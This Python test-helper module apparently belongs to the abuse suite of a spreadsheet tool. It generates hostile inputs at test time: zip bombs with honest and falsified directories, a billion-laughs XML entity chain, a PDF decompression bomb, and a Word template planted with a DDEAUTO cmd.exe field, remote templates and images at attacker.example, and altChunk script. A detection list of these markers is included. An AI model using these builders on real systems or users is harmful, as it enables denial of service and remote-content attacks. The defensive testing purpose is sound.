"""Hostile files for the abuse suite, built at test time (no bomb is committed):
zip bombs (honest and lying directories), damaged members, malformed and
billion-laughs XML, password-protected packages, random bytes; and a way to
run the CLI in a child process and measure its peak memory."""

from __future__ import annotations

import hashlib
import io
import json
import os
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]

LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10))
          + b"]>\n")


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def rezip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def replace_part(data: bytes, name: str, content: bytes) -> bytes:
    members = parts(data)
    assert name in members, sorted(members)
    members[name] = content
    return rezip(members)


def first_sheet(data: bytes) -> str:
    return sorted(n for n in parts(data) if n.startswith("xl/worksheets/sheet"))[0]


def largest_sheet(data: bytes) -> str:
    """The biggest worksheet part (in a normalised workbook: 任务分工, read whole)."""
    members = parts(data)
    return max((n for n in members if n.startswith("xl/worksheets/sheet")),
               key=lambda n: len(members[n]))


def padded_bomb(data: bytes, name: str, pad_bytes: int, path: Path) -> Path:
    """``data`` with ``pad_bytes`` spaces inside part ``name`` (before its last
    element's end tag: still well-formed XML), written in 1 MB chunks to ``path``.
    1 GB of spaces deflates to about 1 MB."""
    members = parts(data)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for member, content in members.items():
            if member != name:
                zf.writestr(member, content)
                continue
            cut = content.rindex(b"</")
            with zf.open(member, "w", force_zip64=True) as fh:
                fh.write(content[:cut])
                chunk = b" " * (1 << 20)
                for _ in range(pad_bytes >> 20):
                    fh.write(chunk)
                fh.write(content[cut:])
    return path


def lying_directory(path: Path, name: str, declared: int = 4096) -> bytes:
    """The zip at ``path`` with the sizes of ``name`` rewritten to ``declared``
    (local header and central directory) while its data stays: a bomb that
    tells the directory it is small."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo(name)
    # Rebuild as a plain (non-zip64) archive so the sizes sit in the fixed headers.
    out = io.BytesIO()
    central = []
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        for i in zf.infolist():
            start = i.header_offset
            nlen, elen = struct.unpack("<HH", data[start + 26:start + 30])
            raw = bytes(data[start + 30 + nlen + elen:start + 30 + nlen + elen + i.compress_size])
            size = declared if i.filename == name else i.file_size
            crc = i.CRC
            fname = i.filename.encode()
            offset = out.tell()
            out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, i.compress_type, 0, 33,
                                  crc, len(raw), size, len(fname), 0) + fname + raw)
            central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0,
                                       i.compress_type, 0, 33, crc, len(raw), size, len(fname),
                                       0, 0, 0, 0, 0, offset) + fname)
    cd_start = out.tell()
    for c in central:
        out.write(c)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central),
                          out.tell() - cd_start, cd_start, 0))
    assert info.file_size > declared
    return out.getvalue()


def damage_member(data: bytes, name: str) -> bytes:
    """Flip bytes in the middle of member ``name``'s compressed data (directory intact)."""
    buf = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(name)
    start = info.header_offset
    nlen, elen = struct.unpack("<HH", buf[start + 26:start + 30])
    body = start + 30 + nlen + elen
    mid = body + info.compress_size // 2
    for k in range(mid, min(mid + 16, body + info.compress_size)):
        buf[k] ^= 0xA5
    return bytes(buf)


def encrypted(data: bytes, password: str = "secret") -> bytes:
    """``data`` (an xlsx/docx) encrypted the way Office does when a password is set:
    an OLE compound file with EncryptionInfo and EncryptedPackage streams."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(data)).encrypt(password, out)
    return out.getvalue()


def digest(path: Path) -> str:
    """A digest of a file, or of every file (names and bytes) under a folder."""
    h = hashlib.sha256()
    if path.is_dir():
        for p in sorted(path.rglob("*")):
            h.update(str(p.relative_to(path)).encode())
            if p.is_file():
                h.update(p.read_bytes())
    else:
        h.update(path.read_bytes())
    return h.hexdigest()


_CHILD = """
import json, resource, sys, time
sys.argv = ["xltools"] + json.loads(sys.argv[1])
from xltools.cli import main
t = time.perf_counter()
status = main(sys.argv[1:])
info = {"status": status, "seconds": time.perf_counter() - t,
        "peak_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024}
print(json.dumps(info))
"""


def run_cli(args: list[str], cwd: Path, timeout: int = 120, *,
            child: bool = False) -> tuple[dict, str, str]:
    """Run ``xltools ARGS``: ({"status": …}, stdout, stderr). In this process
    (an uncaught exception fails the test), or with ``child`` in a child
    interpreter, which also reports its seconds and peak memory ("peak_mb")."""
    if not child:
        import contextlib

        from xltools.cli import main

        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            status = main(args)
        return {"status": status}, out.getvalue(), err.getvalue()
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    proc = subprocess.run([sys.executable, "-c", _CHILD, json.dumps(args)], cwd=cwd,
                          capture_output=True, text=True, timeout=timeout, env=env)
    lines = proc.stdout.strip().splitlines()
    info = json.loads(lines[-1]) if lines and lines[-1].startswith("{") else {"status": None}
    if proc.returncode and info.get("status") is None:
        info["status"] = proc.returncode
    return info, "\n".join(lines[:-1]), proc.stderr


# ---------------------------------------------------------------- issue 18
RETURNED = ROOT / "examples" / "returned"
A_RETURN = RETURNED / "进度反馈表-市人社局.xlsx"  # 2-3 … answered by 市人社局


def with_sheet(data: bytes, edit, part: str = "xl/worksheets/sheet1.xml",
               extra: dict[str, bytes] | None = None) -> bytes:
    """``data`` with ``edit(xml) -> xml`` applied to ``part`` (and ``extra`` parts added)."""
    members = parts(data)
    members[part] = edit(members[part])
    members.update(extra or {})
    return rezip(members)


def set_cell(xml: bytes, ref: str, cell: bytes) -> bytes:
    """The sheet with the cell ``ref`` replaced by ``cell`` (raw XML)."""
    import re

    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"[^>]*?(?:/>|>.*?</c>)', re.S)
    assert pattern.search(xml), ref
    return pattern.sub(lambda _: cell, xml, count=1)


def far_cell_return(data: bytes) -> bytes:
    """One value in XFD1048576 (a 10 KB file whose grid would be 549 GB)."""
    return with_sheet(data, lambda x: x.replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is>'
                         b"</c></row></sheetData>"))


def bad_date_return(data: bytes, value: bytes = b"-1E12") -> bytes:
    """A date cell (style 4 of the example: yyyy-mm-dd) holding ``value``."""
    return with_sheet(data, lambda x: set_cell(x, "I6", b'<c r="I6" s="4"><v>' + value + b"</v></c>"))


def non_finite_return(data: bytes, value: bytes = b"NaN", ref: str = "I6") -> bytes:
    return with_sheet(data, lambda x: set_cell(x, ref, b'<c r="' + ref.encode() + b'"><v>'
                                              + value + b"</v></c>"))


def fanout_return(data: bytes, string_bytes: int = 100_000, rows: int = 200, cols: int = 100) -> bytes:
    """One long shared string used by rows × cols cells below the table."""
    from openpyxl.utils import get_column_letter

    sst = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
           b'uniqueCount="1"><si><t>' + b"x" * string_bytes + b"</t></si></sst>")
    letters = [get_column_letter(15 + j).encode() for j in range(cols)]
    body = b"".join(b'<row r="%d">' % r + b"".join(b'<c r="%s%d" t="s"><v>0</v></c>' % (c, r)
                                                 for c in letters) + b"</row>"
                    for r in range(100, 100 + rows))
    members = parts(data)
    members["xl/worksheets/sheet1.xml"] = members["xl/worksheets/sheet1.xml"].replace(
        b"</sheetData>", body + b"</sheetData>")
    members["xl/sharedStrings.xml"] = sst
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                     b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    members["xl/_rels/workbook.xml.rels"] = members["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/'
                             b'officeDocument/2006/relationships/sharedStrings" '
                             b'Target="sharedStrings.xml"/></Relationships>')
    return rezip(members)


def many_rows_return(data: bytes, rows: int) -> bytes:
    """``rows`` extra rows of text below the table (a unit pasting a big list)."""
    body = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>r%d</t></is></c></row>' % (r, r, r)
                    for r in range(100, 100 + rows))
    return with_sheet(data, lambda x: x.replace(b"</sheetData>", body + b"</sheetData>"))


# Templates (issue 18, item 3).
W_NS = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def add_paragraph(data: bytes, text: str, part: str = "word/document.xml") -> bytes:
    """A template with one more paragraph (``text``, e.g. a tag) before its section settings."""
    from xml.sax.saxutils import escape

    members = parts(data)
    xml = members[part]
    para = ('<w:p><w:r><w:t xml:space="preserve">' + escape(text) + "</w:t></w:r></w:p>").encode()
    cut = xml.rfind(b"<w:sectPr")
    members[part] = xml[:cut] + para + xml[cut:]
    return rezip(members)


def _add_rel(members: dict[str, bytes], rels: str, rid: str, rtype: str, target: str,
             external: bool = False) -> None:
    mode = b' TargetMode="External"' if external else b""
    rel = (b'<Relationship Id="' + rid.encode() + b'" Type="' + rtype.encode() + b'" Target="'
           + target.encode() + b'"' + mode + b"/>")
    if rels in members:
        members[rels] = members[rels].replace(b"</Relationships>", rel + b"</Relationships>")
    else:
        members[rels] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
                         b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                         + rel + b"</Relationships>")


def active_template(data: bytes) -> bytes:
    """A template carrying every kind of active content an attacker would plant:
    a remote attachedTemplate, DDEAUTO (complex field), INCLUDEPICTURE and
    INCLUDETEXT (simple fields), a remote picture, a linked OLE object, an
    altChunk HTML part and a vbaProject.bin."""
    members = parts(data)
    r = REL.decode()
    _add_rel(members, "word/_rels/settings.xml.rels", "rIdT", r + "/attachedTemplate",
             "http://attacker.example/t.dotm", external=True)
    members["word/settings.xml"] = members["word/settings.xml"].replace(
        b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
    assert b"attachedTemplate" in members["word/settings.xml"]
    doc_rels = "word/_rels/document.xml.rels"
    _add_rel(members, doc_rels, "rIdImg", r + "/image", "http://attacker.example/p.png",
             external=True)
    _add_rel(members, doc_rels, "rIdOle", r + "/oleObject", "file:///C:/evil.xlsx", external=True)
    _add_rel(members, doc_rels, "rIdChunk", r + "/aFChunk", "chunk.html")
    _add_rel(members, doc_rels, "rIdVba", "http://schemas.microsoft.com/office/2006/relationships/"
             "vbaProject", "vbaProject.bin")
    members["word/chunk.html"] = b"<html><body><script>alert(1)</script>evil</body></html>"
    members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\0" * 60
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"</Types>", b'<Default Extension="html" ContentType="text/html"/>'
                     b'<Override PartName="/word/vbaProject.bin" '
                     b'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    body = (
        # DDEAUTO as a complex field, split over runs as Word writes it.
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        b' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>dde-result</w:t></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        b'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://attacker.example/x.png&quot; '
        b'\\d "><w:r><w:t>pic</w:t></w:r></w:fldSimple></w:p>'
        b'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;\\\\\\\\evil\\\\share\\\\a.docx&quot;">'
        b"<w:r><w:t>inc</w:t></w:r></w:fldSimple></w:p>"
        b'<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
        b'drawingml/2006/wordprocessingDrawing"><wp:extent cx="10" cy="10"/><wp:docPr id="99" '
        b'name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        b'<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        b'<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        b'<pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        b'<a:blip r:link="rIdImg"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData>'
        b"</a:graphic></wp:inline></w:drawing></w:r></w:p>"
        b'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        b'Type="Link" ProgID="Excel.Sheet.12" r:id="rIdOle" UpdateMode="Always"/></w:object>'
        b"</w:r></w:p>"
        b'<w:altChunk r:id="rIdChunk"/>')
    xml = members["word/document.xml"]
    cut = xml.rfind(b"<w:sectPr")
    members["word/document.xml"] = xml[:cut] + body + xml[cut:]
    return rezip(members)


ACTIVE_MARKS = (b"attachedTemplate", b"DDEAUTO", b"INCLUDEPICTURE", b"INCLUDETEXT", b"altChunk",
                b"aFChunk", b"vbaProject", b"attacker.example", b"evil", b"oleObject")


def active_marks(docx: bytes) -> list[str]:
    """Which marks of active content a .docx still holds (in any part, names included)."""
    found = []
    for name, content in parts(docx).items():
        for mark in ACTIVE_MARKS:
            if mark in content or mark.decode() in name:
                found.append(f"{name}: {mark.decode()}")
    return found


# PDF (issue 18, item 4).
def pdf_document(objects: list[bytes]) -> bytes:
    """A PDF with ``objects`` (numbered from 1; object 1 the catalog) and a valid xref."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n" % (len(objects) + 1, xref)
              + b"%" + b"%EOF\n")
    return out.getvalue()


def pdf_pages(n: int) -> bytes:
    """A valid PDF of ``n`` empty pages."""
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(n))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % n]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * n
    return pdf_document(objects)


def pdf_bomb(inflated_mb: int = 2048) -> bytes:
    """One page whose content stream inflates to ``inflated_mb`` MB (about 2 MB of file)."""
    import zlib

    comp = zlib.compressobj(9)
    chunk = b"0 " * (1 << 19)
    raw = b"".join(comp.compress(chunk) for _ in range(inflated_mb)) + comp.flush()
    return pdf_document([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(raw) + raw + b"\nendstream"])


def formula_without_value(data: bytes, ref: str = "D5") -> bytes:
    """The original table with cell ``ref`` a formula whose result was never saved
    (as a program that does not calculate writes it)."""
    return with_sheet(data, lambda x: set_cell(
        x, ref, b'<c r="' + ref.encode() + b'" t="str"><f>"&#25991;&#20214;&#20844;&#24067;'
                b'&#26102;"&amp;"&#35201;&#27714;"</f></c>'))
